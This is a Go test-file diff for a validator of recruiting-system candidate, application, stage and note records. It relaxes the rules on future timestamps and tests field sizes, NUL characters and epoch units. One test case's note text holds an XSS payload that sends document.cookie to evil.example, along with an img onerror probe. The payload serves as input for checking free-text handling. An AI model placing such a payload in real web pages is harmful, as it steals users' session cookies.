@@ -199,7 +199,10 @@ func corpus() []row {
 		{name: "cand created seconds", rule: "7.2 candidate atsCreatedAt epoch ms (not seconds)", cand: func(c *rsc.Candidate) { c.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
 		{name: "cand modified zero", rule: "7.2 candidate atsLastModifiedAt > 0", cand: func(c *rsc.Candidate) { c.LastModifiedAt = 0 }, field: "atsLastModifiedAt", why: "> 0"},
 		{name: "cand modified before created", rule: "7.2 candidate atsLastModifiedAt >= atsCreatedAt", cand: func(c *rsc.Candidate) { c.CreatedAt, c.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
-		{name: "cand modified future", rule: "7.2 candidate atsLastModifiedAt not in the future", cand: func(c *rsc.Candidate) { c.LastModifiedAt = future }, field: "atsLastModifiedAt", why: "future"},
+		// LinkedIn's rules for atsCreatedAt/atsLastModifiedAt are > 0 and
+		// modified >= created; only a job's listedAt must not be in the
+		// future, so records ahead of the clock are valid.
+		{name: "cand modified future", rule: "7.2 candidate atsLastModifiedAt may be in the future", good: true, cand: func(c *rsc.Candidate) { c.LastModifiedAt = future }},
 		{name: "cand area type bad", rule: "7.2 candidate addresses geographicAreaType STATE|PROVINCE", cand: func(c *rsc.Candidate) { c.Addresses[0].GeographicAreaType = "COUNTY" }, field: "geographicAreaType", why: "one of"},
 		{name: "cand phone empty number", rule: "7.2 candidate phoneNumbers number", cand: func(c *rsc.Candidate) { c.PhoneNumbers = []rsc.PhoneNumber{{Extension: "12"}} }, field: "phoneNumbers[0].number", why: "required"},
 		{name: "cand unicode and HTML names", rule: "7.2 candidate names unicode", good: true, cand: func(c *rsc.Candidate) {
@@ -220,7 +223,7 @@ func corpus() []row {
 		{name: "app created zero", rule: "7.4 application atsCreatedAt > 0", app: func(a *rsc.Application) { a.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
 		{name: "app created seconds", rule: "7.4 application atsCreatedAt epoch ms (not seconds)", app: func(a *rsc.Application) { a.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
 		{name: "app modified before created", rule: "7.4 application atsLastModifiedAt >= atsCreatedAt", app: func(a *rsc.Application) { a.CreatedAt, a.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
-		{name: "app modified future", rule: "7.4 application atsLastModifiedAt not in the future", app: func(a *rsc.Application) { a.LastModifiedAt = future }, field: "atsLastModifiedAt", why: "future"},
+		{name: "app modified future", rule: "7.4 application atsLastModifiedAt may be in the future (no such rule)", good: true, app: func(a *rsc.Application) { a.LastModifiedAt = future }},
 		{name: "app disposition 1 MB", rule: "7.4 application dispositionReason text (1 MB)", app: func(a *rsc.Application) { a.DispositionReason = megabyte }, field: "dispositionReason", why: "at most"},
 		{name: "app source NUL", rule: "7.4 application source text (NUL)", app: func(a *rsc.Application) { a.Source = "Referral\x00" }, field: "source", why: "control character"},
 		{name: "app empty disposition", rule: "7.4 application full replace (empty strings sent)", good: true, app: func(a *rsc.Application) { a.DispositionReason, a.Source = "", "" }},
@@ -231,7 +234,7 @@ func corpus() []row {
 		{name: "stage Not Available", rule: "7.6 stage != \"Not Available\"", stage: func(s *rsc.Stage) { s.Stage = "Not Available" }, field: "stage", why: "Not Available"},
 		{name: "stage created zero", rule: "7.6 stage atsCreatedAt > 0", stage: func(s *rsc.Stage) { s.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
 		{name: "stage created seconds", rule: "7.6 stage atsCreatedAt epoch ms (not seconds)", stage: func(s *rsc.Stage) { s.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
-		{name: "stage created future", rule: "7.6 stage atsCreatedAt not in the future", stage: func(s *rsc.Stage) { s.CreatedAt = future }, field: "atsCreatedAt", why: "future"},
+		{name: "stage created future", rule: "7.6 stage atsCreatedAt may be in the future (no such rule)", good: true, stage: func(s *rsc.Stage) { s.CreatedAt = future }},
 		{name: "stage 1 MB", rule: "7.6 stage text (1 MB)", stage: func(s *rsc.Stage) { s.Stage = megabyte }, field: "stage", why: "at most"},
 		{name: "stage NUL", rule: "7.6 stage text (NUL)", stage: func(s *rsc.Stage) { s.Stage = "Hired\x00" }, field: "stage", why: "control character"},
 		{name: "stage unicode", rule: "7.6 stage free text", good: true, stage: func(s *rsc.Stage) { s.Stage = "Offre acceptée ✅ (final, 100%)" }},
@@ -243,7 +246,7 @@ func corpus() []row {
 		{name: "cnote NUL", rule: "7.3 candidate note text (NUL)", cnote: func(n *rsc.Note) { n.Note = "a\x00b" }, field: "note", why: "control character"},
 		{name: "cnote author no last name", rule: "7.3 candidate note author lastName required", cnote: func(n *rsc.Note) { n.Author.LastName = "" }, field: "author.lastName", why: "required"},
 		{name: "cnote created seconds", rule: "7.3 candidate note atsCreatedAt epoch ms (not seconds)", cnote: func(n *rsc.Note) { n.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
-		{name: "cnote created future", rule: "7.3 candidate note atsCreatedAt not in the future", cnote: func(n *rsc.Note) { n.CreatedAt = future }, field: "atsCreatedAt", why: "future"},
+		{name: "cnote created future", rule: "7.3 candidate note atsCreatedAt may be in the future (no such rule)", good: true, cnote: func(n *rsc.Note) { n.CreatedAt = future }},
 		{name: "cnote script", rule: "7.3 candidate note free text (HTML/script)", good: true, cnote: func(n *rsc.Note) {
 			n.Note = `<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> "quoted" & 'single' \ backslash`
 		}},
